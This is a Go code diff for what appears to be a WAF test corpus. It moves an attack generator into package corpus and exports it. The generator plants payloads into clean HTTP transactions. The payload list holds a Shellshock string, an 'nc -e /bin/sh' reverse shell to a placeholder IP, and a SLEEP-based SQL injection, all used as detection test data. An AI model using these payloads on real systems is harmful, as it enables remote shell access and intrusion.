@@ -1,11 +1,9 @@
-package main
+package corpus
 
 import (
 	"fmt"
 	"net/url"
 	"strings"
-
-	"github.com/fluent-bit-waf/fluent-bit-waf/internal/corpus"
 )
 
 // payloads are attacks of the classes that CRS knows.
@@ -17,12 +15,12 @@ var payloads = []string{
 	"() { :;}; /bin/bash -c id", "nc -e /bin/sh 192.0.2.7 4444", "1 AND SLEEP(5)",
 }
 
-// attack returns attack number i: a transaction of the corpus with a payload in its query or in a form.
-func attack(i uint64) corpus.Record {
-	r := corpus.Clean(i)
+// Attack returns attack number i: a transaction of the corpus with a payload in its query or in a form.
+func Attack(i uint64) Record {
+	r := Clean(i)
 	for step := i; r.Kind != "shop" && r.Kind != "rest" || r.RequestBody != ""; {
 		step += 1 << 32
-		r = corpus.Clean(step)
+		r = Clean(step)
 	}
 	planted := url.Values{"q": {fmt.Sprintf("%d %s", i, payloads[i%uint64(len(payloads))])}}.Encode()
 	head := strings.TrimPrefix(r.RequestHead, r.Method+" "+r.Target)
